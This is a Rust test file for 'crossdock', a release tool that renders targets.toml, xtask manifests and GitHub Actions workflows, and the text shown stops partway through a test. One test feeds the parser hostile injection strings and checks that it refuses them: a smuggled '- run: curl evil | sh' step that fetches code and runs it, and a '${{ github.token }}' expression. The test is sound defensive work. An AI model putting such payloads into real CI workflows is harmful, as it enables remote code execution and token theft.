use super::*;

fn config(text: &str) -> Config {
    Config::parse(Path::new("targets.toml"), text).unwrap()
}

#[test]
fn templates_have_no_unfilled_placeholders() {
    let t = render_targets("x86_64-unknown-linux-gnu", &["app".into()]);
    assert!(!t.contains("@@"), "{t}");
    let c = config(&t);
    assert_eq!(c.targets.len(), 1, "only the host is active");
    assert_eq!(c.targets[0].triple, "x86_64-unknown-linux-gnu");
    assert_eq!(c.packages.unwrap()[0].0, "app");
    assert!(t.contains("# triple = \"aarch64-apple-darwin\""), "{t}");
    assert!(
        !t.contains("# triple = \"x86_64-unknown-linux-gnu\""),
        "the host is not offered twice"
    );
    // Uncommenting everything gives a valid file too.
    let all: String = t
        .lines()
        .map(|l| {
            l.strip_prefix("# ")
                .filter(|r| r.starts_with("[[") || r.contains(" = "))
                .unwrap_or(l)
        })
        .collect::<Vec<_>>()
        .join("\n");
    let c = config(&all);
    assert_eq!(c.targets.len(), 6, "{all}");
    assert_eq!(c.universals.len(), 1);

    let t = render_targets("aarch64-apple-darwin", &[]);
    assert!(t.contains("# packages = "), "{t}");
    assert!(config(&t).packages.is_none());

    for text in [
        render_xtask_manifest(&Dependency::current()),
        render_xtask_manifest(&Dependency::Path("/x/\"q\"".into())),
        render_xtask_main(),
        render_workflow(&config(
            "[[target]]\ntriple = \"x86_64-unknown-linux-gnu\"\n",
        )),
    ] {
        assert!(!text.contains("@@"), "{text}");
    }
}

#[test]
fn xtask_manifest_depends_on_the_engine_only() {
    assert_eq!(Dependency::current(), Dependency::Version("0.1".into()));
    let m: toml::Table = render_xtask_manifest(&Dependency::current())
        .parse()
        .unwrap();
    let dep = &m["dependencies"]["crossdock"];
    assert_eq!(dep["version"].as_str(), Some("0.1"));
    assert_eq!(dep["default-features"].as_bool(), Some(false));
    assert_eq!(dep["features"].as_array().unwrap()[0].as_str(), Some("cli"));
    let m: toml::Table = render_xtask_manifest(&Dependency::Path("/a b/\"c\"".into()))
        .parse()
        .unwrap();
    assert_eq!(
        m["dependencies"]["crossdock"]["path"].as_str(),
        Some("/a b/\"c\"")
    );
    assert!(render_xtask_main().contains("fn main() {\n    crossdock::cli::xtask_main()\n}"));
}

#[test]
fn workflow_lists_the_matrix_and_the_universal_binaries() {
    let one = render_workflow(&config(
        "[[target]]\ntriple = \"x86_64-unknown-linux-gnu\"\n",
    ));
    assert!(
        one.contains(&format!(
            "#   {:29}  {:14}  tar.gz\n",
            "x86_64-unknown-linux-gnu", "ubuntu-latest"
        )),
        "{one}"
    );
    assert!(
        one.contains("# Universal binaries (joined by the merge job): none\n"),
        "{one}"
    );
    let many = render_workflow(&config(
        "[[target]]\ntriple = \"x86_64-apple-darwin\"\n[[target]]\ntriple = \"aarch64-apple-darwin\"\n\
         [[target]]\ntriple = \"x86_64-unknown-linux-musl\"\n\
         [[universal]]\nname = \"universal-apple-darwin\"\ntargets = [\"x86_64-apple-darwin\", \"aarch64-apple-darwin\"]\n",
    ));
    assert!(
        many.contains(&format!(
            "#   {:29}  {:14}  tar.gz  rustup target add\n",
            "x86_64-apple-darwin", "macos-latest"
        )),
        "{many}"
    );
    assert!(many.contains("apt: musl-tools"), "{many}");
    assert!(
        many.contains("#   universal-apple-darwin = x86_64-apple-darwin + aarch64-apple-darwin"),
        "{many}"
    );
    assert!(many.contains(
        "- name: \"Merge into dist/ (SHA256SUMS, dist-manifest.json, universal-apple-darwin)\""
    ));
    assert_ne!(one, many);
    assert_eq!(listed_targets(&one), ["x86_64-unknown-linux-gnu"]);
    assert_eq!(
        listed_targets(&many),
        [
            "x86_64-apple-darwin",
            "aarch64-apple-darwin",
            "x86_64-unknown-linux-musl"
        ]
    );
    // No expression is interpolated into a shell script: values go through env, so
    // every `${{` is on a `key: value` line whose key is not `run`.
    for line in many.lines().filter(|l| l.contains("${{")) {
        let key = line
            .trim_start()
            .trim_start_matches("- ")
            .split(':')
            .next()
            .unwrap();
        assert!(
            key != "run"
                && key
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_'),
            "{line}"
        );
    }
}

/// This repository's own release workflow is the template rendered with its targets.toml
/// (what `cargo crossdock init --check` checks in CI).
#[test]
fn this_repository_s_workflow_is_the_rendered_template() {
    let root = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/../.."));
    let config = Config::load(&root.join("targets.toml")).unwrap();
    let on_disk = std::fs::read_to_string(root.join(WORKFLOW)).unwrap();
    let rendered = render_workflow(&config);
    assert!(
        on_disk == rendered,
        "{WORKFLOW} is out of date ({}): regenerate it with `cargo crossdock init --force` semantics",
        first_difference(&rendered, &on_disk)
    );
}

#[test]
fn members_are_added_keeping_the_formatting() {
    let add = |t: &str| add_workspace_member("Cargo.toml", t, "xtask").unwrap();
    assert_eq!(
        add("[workspace]\nmembers = [\"a\", \"b\"] # mine\n").unwrap(),
        "[workspace]\nmembers = [\"a\", \"b\", \"xtask\"] # mine\n"
    );
    assert_eq!(
        add("[workspace]\nmembers = [\"a\",]\n").unwrap(),
        "[workspace]\nmembers = [\"a\", \"xtask\"]\n"
    );
    assert_eq!(
        add("[workspace]\nmembers = []\n").unwrap(),
        "[workspace]\nmembers = [\"xtask\"]\n"
    );
    assert_eq!(
        add("[workspace]\nmembers = [\n    \"a\",\n    \"b\", # b\n]\nresolver = \"2\"\n").unwrap(),
        "[workspace]\nmembers = [\n    \"a\",\n    \"b\", # b\n    \"xtask\",\n]\nresolver = \"2\"\n"
    );
    assert_eq!(
        add("[workspace]\nmembers = [\n  'a'\n]\n").unwrap(),
        "[workspace]\nmembers = [\n  'a',\n  \"xtask\",\n]\n"
    );
    // A root package with an empty [workspace] table (the tiny fixture).
    assert_eq!(
        add("[package]\nname = \"tiny\"\n\n[workspace]\n\n[profile.dist]\ninherits = \"release\"\n").unwrap(),
        "[package]\nname = \"tiny\"\n\n[workspace]\nmembers = [\"xtask\"]\n\n[profile.dist]\ninherits = \"release\"\n"
    );
    // A single package without [workspace].
    assert_eq!(
        add("[package]\nname = \"app\"").unwrap(),
        "[package]\nname = \"app\"\n\n[workspace]\nmembers = [\"xtask\"]\n"
    );
    // Already a member, by name or by glob.
    assert_eq!(add("[workspace]\nmembers = [\"xtask\"]\n"), None);
    assert_eq!(add("[workspace]\nmembers = [\"*\"]\n"), None);
    // A form init does not edit is refused with the fix.
    let e = add_workspace_member("Cargo.toml", "workspace = { resolver = \"2\" }\n", "xtask")
        .unwrap_err()
        .to_string();
    assert!(e.contains("by hand"), "{e}");
}

#[test]
fn dist_profile_is_added_once() {
    let added = add_dist_profile("Cargo.toml", "[package]\nname = \"a\"\n")
        .unwrap()
        .unwrap();
    assert_eq!(
        added.what(),
        "added [profile.dist] (inherits release; lto = \"thin\", codegen-units = 1, strip = true)"
    );
    let p = added.text;
    assert!(p.starts_with("[package]\nname = \"a\"\n\n"), "{p}");
    let t: toml::Table = p.parse().unwrap();
    let d = &t["profile"]["dist"];
    assert_eq!(d["inherits"].as_str(), Some("release"), "{p}");
    assert_eq!(d["lto"].as_str(), Some("thin"), "{p}");
    assert_eq!(d["codegen-units"].as_integer(), Some(1), "{p}");
    assert_eq!(d["strip"].as_bool(), Some(true), "{p}");
    assert!(d.get("panic").is_none(), "panic = abort is opt-in: {p}");
    let lines: Vec<&str> = p.lines().collect();
    for key in [
        "inherits",
        "lto",
        "codegen-units",
        "strip",
        "# panic = \"abort\"",
    ] {
        let at = lines.iter().position(|l| l.starts_with(key)).unwrap();
        assert!(lines[at - 1].starts_with("# "), "{key} has no comment: {p}");
    }
    assert_eq!(add_dist_profile("Cargo.toml", &p).unwrap(), None);
    // The user's own [profile.dist] is left as it is, comments and all.
    let own =
        "[package]\nname = \"a\"\n\n[profile.dist] # mine\ninherits = \"release\"\nlto = false\n";
    assert_eq!(add_dist_profile("Cargo.toml", own).unwrap(), None);
    assert!(
        add_dist_profile("Cargo.toml", "[profile.release]\nlto = true\n")
            .unwrap()
            .is_some()
    );
}

/// Issue 23 §2: `[profile.dist]` never lowers what `[profile.release]` sets (`lto = true`
/// overridden by `lto = "thin"`): a key release has is left to inheritance, and the report
/// says what was added and what release keeps.
#[test]
fn dist_profile_never_overrides_what_release_sets() {
    let dist = |text: &str| -> (toml::Table, DistProfile) {
        let added = add_dist_profile("Cargo.toml", text).unwrap().unwrap();
        let t: toml::Table = added.text.parse().unwrap();
        let d = t["profile"]["dist"].as_table().unwrap().clone();
        (d, added)
    };
    let (d, added) = dist("[package]\nname = \"a\"\n\n[profile.release]\nlto = true\n");
    assert_eq!(
        d.get("lto"),
        None,
        "release's lto = true is inherited: {d:?}"
    );
    assert_eq!(d["inherits"].as_str(), Some("release"));
    assert_eq!(d["codegen-units"].as_integer(), Some(1));
    assert_eq!(
        added.what(),
        "added [profile.dist] (inherits release; codegen-units = 1, strip = true; keeps release's lto = true)"
    );
    // Every size setting of release's own, a dotted form, `debug` (which keeps symbols).
    let (d, added) = dist(
        "[package]\nname = \"a\"\n\n[profile.release]\nlto = \"fat\"\ncodegen-units = 16\ndebug = true\n",
    );
    assert_eq!(d.keys().collect::<Vec<_>>(), ["inherits"], "{d:?}");
    assert!(
        added.text.contains("# everything `release` sets (it has the size settings of its own)\ninherits = \"release\"\n"),
        "{}",
        added.text
    );
    assert_eq!(
        added.what(),
        "added [profile.dist] (inherits release; keeps release's lto = \"fat\", codegen-units = 16, debug = true)"
    );
    let (d, _) = dist("profile.release.strip = \"debuginfo\"\nprofile.release.debug = 0\n");
    assert_eq!(d.get("strip"), None, "{d:?}");
    assert_eq!(d["lto"].as_str(), Some("thin"));
    let (d, _) = dist("[profile.release]\ndebug = \"none\"\n");
    assert_eq!(d["strip"].as_bool(), Some(true), "no debug info to keep");
}

#[test]
fn alias_is_added_to_an_existing_config_only_when_absent() {
    assert_eq!(
        add_xtask_alias("c", None).unwrap().unwrap(),
        CARGO_CONFIG_TEMPLATE
    );
    assert_eq!(
        add_xtask_alias("c", Some("[build]\njobs = 2\n"))
            .unwrap()
            .unwrap(),
        "[build]\njobs = 2\n\n[alias]\nxtask = \"run --package xtask --quiet --\"\n"
    );
    assert_eq!(
        add_xtask_alias("c", Some("[alias]\nb = \"build\"\n"))
            .unwrap()
            .unwrap(),
        "[alias]\nxtask = \"run --package xtask --quiet --\"\nb = \"build\"\n"
    );
    assert_eq!(
        add_xtask_alias("c", Some("[alias]\nxtask = \"run -p tasks --\"\n")).unwrap(),
        None
    );
    assert!(add_xtask_alias("c", Some("alias.b = \"build\"\n")).is_err());
    assert!(add_xtask_alias("c", Some("not toml [")).is_err());
}

/// Issue 23 §12: the out dir and this machine's `targets.local.toml` (never committed;
/// `release` refuses a tree that lists them) are ignored, each once.
#[test]
fn dist_and_the_local_settings_are_ignored_once() {
    const BOTH: &str = "# crossdock's output (`cargo xtask dist`)\n/dist\n\
        # this machine's settings over the matrix (crossdock; never committed)\n/targets.local.toml\n";
    assert_eq!(
        add_ignores(None, "targets.local.toml").unwrap(),
        (
            BOTH.to_string(),
            vec!["/dist".into(), "/targets.local.toml".into()]
        )
    );
    assert_eq!(
        add_ignores(Some("/target"), "targets.local.toml")
            .unwrap()
            .0,
        format!("/target\n{BOTH}")
    );
    assert_eq!(add_ignores(Some(BOTH), "targets.local.toml"), None);
    assert_eq!(
        add_ignores(
            Some("/target\ndist/\ntargets.local.toml\n"),
            "targets.local.toml"
        ),
        None
    );
    // An old init's .gitignore gets the local line only; --config names its own file.
    let (text, added) = add_ignores(Some("/dist\n"), "ci/crossdock.local.toml").unwrap();
    assert!(text.ends_with("\n/ci/crossdock.local.toml\n"), "{text}");
    assert_eq!(added, ["/ci/crossdock.local.toml"]);
}

#[test]
fn first_difference_names_the_line() {
    assert_eq!(
        first_difference("a\nb\n", "a\nc\n"),
        "line 2: expected \"b\", found \"c\""
    );
    assert_eq!(
        first_difference("a\n", "a\nb\n"),
        "line 2: expected \"<end of file>\", found \"b\""
    );
}

#[test]
fn crossdock_path_is_the_repository_root_or_the_crate() {
    let root = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/../.."))
        .canonicalize()
        .unwrap();
    let krate = root.join("crates/crossdock");
    assert_eq!(crossdock_crate_dir(&root).unwrap(), krate);
    assert_eq!(crossdock_crate_dir(&krate).unwrap(), krate);
    let err = |p: &Path| format!("{:#}", crossdock_crate_dir(p).unwrap_err());
    let e = err(&root.join("no-such-dir"));
    assert!(e.contains("no such directory"), "{e}");
    let e = err(&root.join("tests"));
    assert!(e.contains("no Cargo.toml there"), "{e}");
    let e = err(&root.join("xtask"));
    assert!(e.contains("the package `xtask`, not crossdock"), "{e}");
    // A workspace whose crossdock member is found through its members glob.
    let dir = tempfile::tempdir().unwrap();
    let w = dir.path();
    std::fs::write(
        w.join("Cargo.toml"),
        "[workspace]\nmembers = [\"engine/*\"]\n",
    )
    .unwrap();
    std::fs::create_dir_all(w.join("engine/cd")).unwrap();
    std::fs::write(
        w.join("engine/cd/Cargo.toml"),
        "[package]\nname = \"crossdock\"\n",
    )
    .unwrap();
    assert_eq!(
        crossdock_crate_dir(w).unwrap(),
        w.join("engine/cd").canonicalize().unwrap()
    );
    std::fs::write(
        w.join("engine/cd/Cargo.toml"),
        "[package]\nname = \"other\"\n",
    )
    .unwrap();
    let e = err(w);
    assert!(
        e.contains("the workspace there has no crossdock package (members: engine/*)"),
        "{e}"
    );
}

#[test]
fn git_dependency_with_and_without_rev() {
    let m: toml::Table = render_xtask_manifest(&Dependency::Git {
        url: "https://example.org/crossdock.git".into(),
        rev: Some("abc123".into()),
    })
    .parse()
    .unwrap();
    let dep = &m["dependencies"]["crossdock"];
    assert_eq!(
        dep["git"].as_str(),
        Some("https://example.org/crossdock.git")
    );
    assert_eq!(dep["rev"].as_str(), Some("abc123"));
    assert_eq!(dep["features"].as_array().unwrap()[0].as_str(), Some("cli"));
    let m: toml::Table = render_xtask_manifest(&Dependency::Git {
        url: "file:///x".into(),
        rev: None,
    })
    .parse()
    .unwrap();
    assert!(m["dependencies"]["crossdock"].get("rev").is_none());
}

/// Issue 23 §3: `init --force` without a source flag keeps the engine source the xtask has
/// (path or git, in whatever form), instead of writing crates.io's `version = "0.1"` back.
#[test]
fn force_keeps_the_xtask_s_engine_source_unless_given_another() {
    let opts = |path: Option<&str>, git: Option<&str>| InitOptions {
        manifest_path: None,
        crossdock_path: path.map(PathBuf::from),
        crossdock_git: git.map(str::to_string),
        crossdock_rev: None,
        config: None,
        cargo: "cargo".into(),
    };
    let path = render_xtask_manifest(&Dependency::Path("../engine/crates/crossdock".into()));
    let git = render_xtask_manifest(&Dependency::Git {
        url: "https://example.org/c.git".into(),
        rev: Some("abc".into()),
    });
    let table = "[package]\nname = \"xtask\"\n\n[dependencies.crossdock]\ngit = \"file:///c\" # mine\nbranch = \"next\"\nfeatures = [\"cli\"]\n";
    for (existing, kept) in [
        (
            path.as_str(),
            "{ path = \"../engine/crates/crossdock\", default-features = false, features = [\"cli\"] }",
        ),
        (
            git.as_str(),
            "{ git = \"https://example.org/c.git\", rev = \"abc\", default-features = false, features = [\"cli\"] }",
        ),
        (
            table,
            "{ git = \"file:///c\", branch = \"next\", features = [\"cli\"] }",
        ),
        ("[dependencies]\ncrossdock = \"0.3\"\n", "\"0.3\""),
    ] {
        let dep = dependency(&opts(None, None), Path::new("/w"), Some(existing))
            .unwrap()
            .0;
        assert_eq!(dep, Dependency::Kept(kept.into()), "{existing}");
        let rendered = render_xtask_manifest(&dep);
        if existing != table && !existing.starts_with("[dependencies]") {
            assert_eq!(rendered, existing, "the same bytes again");
        }
        let m: toml::Table = rendered.parse().unwrap();
        let old: toml::Table = existing.parse().unwrap();
        assert_eq!(
            m["dependencies"]["crossdock"], old["dependencies"]["crossdock"],
            "{rendered}"
        );
    }
    // A flag replaces it; no xtask (or none with crossdock) takes crates.io.
    let given = dependency(
        &opts(None, Some("file:///other")),
        Path::new("/w"),
        Some(&path),
    )
    .unwrap()
    .0;
    assert_eq!(
        given,
        Dependency::Git {
            url: "file:///other".into(),
            rev: None
        }
    );
    assert_eq!(
        dependency(&opts(None, None), Path::new("/w"), None)
            .unwrap()
            .0,
        Dependency::current()
    );
    assert_eq!(
        dependency(
            &opts(None, None),
            Path::new("/w"),
            Some("[package]\nname = \"xtask\"\n")
        )
        .unwrap()
        .0,
        Dependency::current()
    );
}

/// Issue 23 §11: a crossdock inside the repository is depended on by a path relative to
/// xtask/ (the workflow's checkout has it there); one outside keeps its absolute path and
/// a warning says the workflow cannot build it.
#[test]
fn crossdock_path_is_relative_inside_the_repository_and_warned_outside() {
    let repo = tempfile::tempdir().unwrap();
    let root = repo.path().canonicalize().unwrap();
    std::fs::create_dir(root.join(".git")).unwrap();
    let ws = root.join("app");
    std::fs::create_dir(&ws).unwrap();
    let inside = root.join("vendor/crossdock/crates/crossdock");
    assert_eq!(
        path_dependency(&ws, &inside),
        (
            Dependency::Path("../../vendor/crossdock/crates/crossdock".into()),
            None
        )
    );
    assert_eq!(
        path_dependency(&root, &inside).0,
        Dependency::Path("../vendor/crossdock/crates/crossdock".into())
    );
    let m: toml::Table = render_xtask_manifest(&path_dependency(&root, &inside).0)
        .parse()
        .unwrap();
    assert_eq!(
        m["dependencies"]["crossdock"]["path"].as_str(),
        Some("../vendor/crossdock/crates/crossdock")
    );
    let outside = Path::new("/opt/crossdock/crates/crossdock");
    let (dep, warning) = path_dependency(&ws, outside);
    assert_eq!(dep, Dependency::Path(outside.into()));
    let warning = warning.expect("a warning");
    for needle in [
        "--crossdock-path /opt/crossdock/crates/crossdock: outside the repository",
        &root.display().to_string(),
        "the release workflow's checkout does not have",
        "--crossdock-git URL --rev R",
    ] {
        assert!(warning.contains(needle), "{needle:?} not in {warning}");
    }
    assert_eq!(
        relative_path(Path::new("/a/b"), Path::new("/a/b")),
        PathBuf::from(".")
    );
}

#[test]
fn unresolved_message_keeps_the_files_and_offers_the_alternatives() {
    let m = unresolved_message(
        &Dependency::current(),
        "error: no matching package named `crossdock` found",
        &["xtask/Cargo.toml".into(), "Cargo.toml".into()],
    );
    for needle in [
        "cannot get crossdock 0.1 from crates.io",
        "    error: no matching package named `crossdock` found",
        "init wrote xtask/Cargo.toml, Cargo.toml and keeps them",
        "--force --crossdock-path DIR",
        "--force --crossdock-git URL [--rev R]",
        "the standalone `cargo crossdock dist` needs none",
    ] {
        assert!(m.contains(needle), "{needle:?} not in:\n{m}");
    }
}

#[test]
fn lock_change_names_what_was_added() {
    let lock = |names: &[&str]| {
        names
            .iter()
            .map(|n| format!("[[package]]\nname = \"{n}\"\nversion = \"1.0.0\"\n"))
            .collect::<String>()
    };
    let old = lock(&["tiny"]);
    assert_eq!(lock_change(Some(&old), Some(&old)), None);
    assert_eq!(lock_change(Some(&old), None), None);
    assert_eq!(
        lock_change(
            Some(&old),
            Some(&lock(&["tiny", "anyhow", "crossdock", "xtask"]))
        )
        .unwrap(),
        "added xtask, crossdock, anyhow"
    );
    assert_eq!(
        lock_change(None, Some(&lock(&["a", "b", "c", "d", "xtask"]))).unwrap(),
        "added xtask, a, b and 2 more"
    );
    assert_eq!(
        lock_change(Some(&lock(&["tiny", "old"])), Some(&old)).unwrap(),
        "removed old"
    );
}

/// Issue 23 §10: a version replaced by another is an upgrade (or a downgrade), not a
/// removal and an addition; versions compare as versions (3.9 < 3.10).
#[test]
fn lock_change_names_upgrades_as_upgrades() {
    let lock = |pkgs: &[(&str, &str)]| {
        pkgs.iter()
            .map(|(n, v)| format!("[[package]]\nname = \"{n}\"\nversion = \"{v}\"\n"))
            .collect::<String>()
    };
    let old = lock(&[
        ("app", "0.1.0"),
        ("bumpalo", "3.19.0"),
        ("memchr", "2.7.4"),
        ("windows-sys", "0.52.0"),
    ]);
    let new = lock(&[
        ("app", "0.1.0"),
        ("bumpalo", "3.20.4"),
        ("memchr", "2.7.4"),
        ("windows-sys", "0.52.0"),
        ("windows-sys", "0.61.2"),
        ("crossdock", "0.1.0"),
        ("xtask", "0.0.0"),
        ("cc", "1.9.0"),
    ]);
    assert_eq!(
        lock_change(Some(&old), Some(&new)).unwrap(),
        "added xtask, crossdock, cc, windows-sys; upgraded bumpalo 3.19.0 → 3.20.4"
    );
    let d = lock_diff(Some(&lock(&[("a", "3.9.0")])), &lock(&[("a", "3.10.0")]));
    assert_eq!(d.changed, [("a".into(), "3.9.0".into(), "3.10.0".into())]);
    assert_eq!(
        lock_change(
            Some(&lock(&[("a", "3.10.0")])),
            Some(&lock(&[("a", "3.9.0")]))
        )
        .unwrap(),
        "downgraded a 3.10.0 → 3.9.0"
    );
}

#[test]
fn workflow_for_another_config_passes_it_to_every_command() {
    let c = config("[[target]]\ntriple = \"x86_64-unknown-linux-gnu\"\n");
    let w = render_workflow_for(&c, "ci/crossdock.toml");
    for needle in [
        "builds every target of ci/crossdock.toml on",
        "`cargo crossdock init --check --config ci/crossdock.toml` fails",
        "matrix=\"$(cargo xtask matrix --config ci/crossdock.toml)\"",
        "run: xtask dist --config ci/crossdock.toml --target \"$TARGET\"",
        "run: xtask merge --config ci/crossdock.toml dist-* --out-dir dist",
    ] {
        assert!(w.contains(needle), "{needle:?} not in:\n{w}");
    }
    assert_eq!(listed_targets(&w), ["x86_64-unknown-linux-gnu"]);
    assert!(render_workflow_for(&c, "my matrix.toml").contains("--config 'my matrix.toml'"));
    let default = render_workflow(&c);
    assert!(!default.contains("--config"), "{default}");
    assert_eq!(default, render_workflow_for(&c, "targets.toml"));
}

/// Issue 12 item 17: `github-runner` and a universal `name` reach the rendered workflow
/// (the header comment, the merge step's name). A value that could end a comment line,
/// start a YAML key or an expression is refused when targets.toml is read, so no workflow
/// is ever rendered from it; an accepted name is rendered inside a quoted YAML string.
#[test]
fn hostile_runner_and_universal_names_never_reach_the_workflow() {
    let apple = "[[target]]\ntriple = \"x86_64-apple-darwin\"\n[[target]]\ntriple = \"aarch64-apple-darwin\"\n";
    let universal = |name: &str| {
        format!(
            "{apple}[[universal]]\nname = {}\ntargets = [\"x86_64-apple-darwin\", \"aarch64-apple-darwin\"]\n",
            toml_string(name)
        )
    };
    let runner = |label: &str| {
        format!(
            "[[target]]\ntriple = \"x86_64-unknown-linux-gnu\"\ngithub-runner = {}\n",
            toml_string(label)
        )
    };
    for hostile in [
        "fat\n      - run: curl evil | sh",
        "fat: {evil: 1}",
        "fat # comment",
        "fat\"",
        "${{ github.token }}",
        "'fat'",
        "",
    ] {
        for (key, text) in [
            ("name", universal(hostile)),
            ("github-runner", runner(hostile)),
        ] {
            let e = Config::parse(Path::new("targets.toml"), &text)
                .map(|_| ())
                .expect_err(&format!("{key} = {hostile:?} was accepted"))
                .to_string();
            assert!(e.contains(&format!("key `{key}`")), "{e}");
        }
    }
    let w = render_workflow(&config(&universal("fat-macos")));
    assert!(
        w.contains("- name: \"Merge into dist/ (SHA256SUMS, dist-manifest.json, fat-macos)\"\n"),
        "{w}"
    );
}

/// Issue 14 §3: maintainers' own jobs live between two marker lines that `init --force`
/// keeps and `init --check` does not compare; a lost marker is an error with the fix.
#[test]
fn the_maintainers_region_survives_regeneration() {
    let c = config("[[target]]\ntriple = \"x86_64-unknown-linux-gnu\"\n");
    let rendered = render_workflow(&c);
    assert!(rendered.ends_with(&format!("{USER_REGION_BEGIN}\n{USER_REGION_END}\n")));
    let job = "  crates-io:\n    needs: [plan, publish]\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo mine\n";
    let mine = rendered.replace(
        &format!("{USER_REGION_BEGIN}\n"),
        &format!("{USER_REGION_BEGIN}\n{job}"),
    );
    assert_ne!(mine, rendered);
    // The same targets.toml: what init renders equals the maintainer's file.
    assert_eq!(keep_user_region(&rendered, &mine, "w.yml").unwrap(), mine);
    // Another targets.toml: the generated part changes, the region stays.
    let other = render_workflow(&config(
        "[[target]]\ntriple = \"x86_64-unknown-linux-musl\"\n",
    ));
    let kept = keep_user_region(&other, &mine, "w.yml").unwrap();
    assert!(
        kept.contains(job) && kept.contains("x86_64-unknown-linux-musl"),
        "{kept}"
    );
    assert_eq!(kept.replace(job, ""), other);
    // A workflow from before the region: the rendering, unchanged.
    let old = rendered.replace(&format!("{USER_REGION_BEGIN}\n{USER_REGION_END}\n"), "");
    assert_eq!(
        keep_user_region(&rendered, &old, "w.yml").unwrap(),
        rendered
    );
    // A lost or misplaced marker: refused, naming the file and both marker lines.
    for broken in [
        mine.replace(&format!("{USER_REGION_END}\n"), ""),
        mine.replace(&format!("{USER_REGION_BEGIN}\n"), ""),
        old.clone() + USER_REGION_END + "\n" + USER_REGION_BEGIN + "\n",
    ] {
        let e = keep_user_region(&rendered, &broken, "w.yml")
            .unwrap_err()
            .to_string();
        assert!(e.starts_with("w.yml: the region of your own jobs"), "{e}");
        assert!(
            e.contains(USER_REGION_END) && e.contains("Put the missing one back"),
            "{e}"
        );
    }
}

/// Issue 22 §2: a napi-rs package's targets become the starter matrix: each one Node has a
/// platform for active beside the host (with the linker and runner crossdock knows for it),
/// `universal-apple-darwin` as the universal group with both macOS targets, the ones Node
/// cannot load named in a comment, `npm-publish` offered; the file is a valid targets.toml,
/// also with everything uncommented.
#[test]
fn a_napi_package_s_targets_become_the_matrix() {
    let node = render::NodeMatrix {
        from: "mymod/package.json".into(),
        targets: vec![
            "x86_64-unknown-linux-gnu".into(),
            "aarch64-unknown-linux-gnu".into(),
            "x86_64-unknown-linux-musl".into(),
            "x86_64-apple-darwin".into(),
            "aarch64-apple-darwin".into(),
        ],
        universal: true,
        unsupported: vec!["wasm32-wasip1-threads".into()],
    };
    let t = render::render_matrix("x86_64-unknown-linux-gnu", &["mymod".into()], &node);
    assert!(!t.contains("@@"), "{t}");
    let c = config(&t);
    let triples: Vec<&str> = c.targets.iter().map(|t| t.triple.as_str()).collect();
    assert_eq!(
        triples,
        [
            "x86_64-unknown-linux-gnu",
            "aarch64-unknown-linux-gnu",
            "x86_64-unknown-linux-musl",
            "x86_64-apple-darwin",
            "aarch64-apple-darwin"
        ],
        "{t}"
    );
    assert_eq!(
        c.targets[1].linker.as_deref(),
        Some("aarch64-linux-gnu-gcc")
    );
    assert_eq!(c.universals.len(), 1);
    assert_eq!(c.universals[0].name, "universal-apple-darwin");
    assert!(t.contains("mymod/package.json `napi.targets`"), "{t}");
    assert!(t.contains("wasm32-wasip1-threads"), "{t}");
    assert!(t.contains("# triple = \"x86_64-pc-windows-msvc\""), "{t}");
    assert!(
        !t.contains("# triple = \"x86_64-apple-darwin\""),
        "not offered twice: {t}"
    );
    assert!(t.contains("# npm-publish = true"), "{t}");
    let all: String = t
        .lines()
        .map(|l| {
            l.strip_prefix("# ")
                .filter(|r| r.starts_with("[[") || r.contains(" = "))
                .unwrap_or(l)
        })
        .collect::<Vec<_>>()
        .join("\n");
    let c = config(&all);
    assert_eq!(c.targets.len(), 6, "{all}");
    assert!(c.npm_publish);
}

/// Issue 23 §16: init's closing words name what builds here and each skip with its fix.
#[test]
fn next_builds_names_the_skipped_targets_and_why() {
    let skip = crate::plan::Skipped {
        target: "x86_64-pc-windows-gnu".into(),
        reason: "linker: x86_64-w64-mingw32-gcc not found".into(),
        fix: Some("apt-get install gcc-mingw-w64-x86-64".into()),
    };
    assert_eq!(
        next_builds(&["x86_64-unknown-linux-gnu".into()], &[skip]),
        "builds x86_64-unknown-linux-gnu here and skips x86_64-pc-windows-gnu \
         (linker: x86_64-w64-mingw32-gcc not found; fix: apt-get install gcc-mingw-w64-x86-64) \
         (`cargo crossdock doctor` shows every check)"
    );
    assert_eq!(
        next_builds(&["a".into(), "b".into()], &[]),
        "builds a, b here"
    );
    assert_eq!(next_builds(&[], &[]), "builds no target here yet");
}

/// Issue 23 §14: the starter's runner line is the runner crossdock runs (plan/runner.rs
/// adds nothing to it), so copied into a cargo config it does not hang threaded programs.
#[test]
fn starter_runner_is_the_runner_crossdock_uses() {
    let t = render_targets("x86_64-unknown-linux-gnu", &["app".into()]);
    let uncommented: String = t
        .lines()
        .map(|l| l.strip_prefix("# ").unwrap_or(l))
        .filter(|l| {
            l.starts_with("[[target]]")
                || l.starts_with("triple")
                || l.starts_with("runner")
                || l.starts_with("linker")
        })
        .map(|l| format!("{l}\n"))
        .collect();
    let c = config(&uncommented);
    let a64 = c
        .targets
        .iter()
        .find(|t| t.triple == "aarch64-unknown-linux-gnu")
        .expect("aarch64 in the starter");
    let runner = a64.runner.clone().expect("a runner");
    assert_eq!(
        runner,
        [
            "qemu-aarch64",
            "-L",
            "/usr/aarch64-linux-gnu",
            "-E",
            "LD_LIBRARY_PATH=/usr/aarch64-linux-gnu/lib"
        ]
    );
    assert_eq!(crate::plan::runner::runner_for_cargo(&runner), runner);
    assert_eq!(a64.linker.as_deref(), Some("aarch64-linux-gnu-gcc"));
}

/// Issue 24 §2: with `sign` set the signing key reaches the merge step (the one that
/// writes and signs SHA256SUMS) and no other step or job; without it, no secret does.
#[test]
fn the_signing_key_reaches_the_merge_step_only() {
    let target = "[[target]]\ntriple = \"x86_64-unknown-linux-gnu\"\n";
    for (sign, key, pw) in [
        (
            "minisign",
            "CROSSDOCK_MINISIGN_KEY",
            "CROSSDOCK_MINISIGN_PASSWORD",
        ),
        ("gpg", "CROSSDOCK_GPG_KEY", "CROSSDOCK_GPG_PASSPHRASE"),
    ] {
        let signed = render_workflow(&config(&format!("[dist]\nsign = \"{sign}\"\n{target}")));
        assert_eq!(signed.matches("secrets.CROSSDOCK_").count(), 2, "{signed}");
        let merge = signed.find("run: xtask merge").expect("a merge step");
        let env = &signed[merge..];
        let env = &env[..env.find("- name: Upload").unwrap()];
        assert!(
            env.contains(&format!("env:\n          {key}: ${{{{ secrets.{key} }}}}\n          {pw}: ${{{{ secrets.{pw} }}}}")),
            "{env}"
        );
    }
    let plain = render_workflow(&config(target));
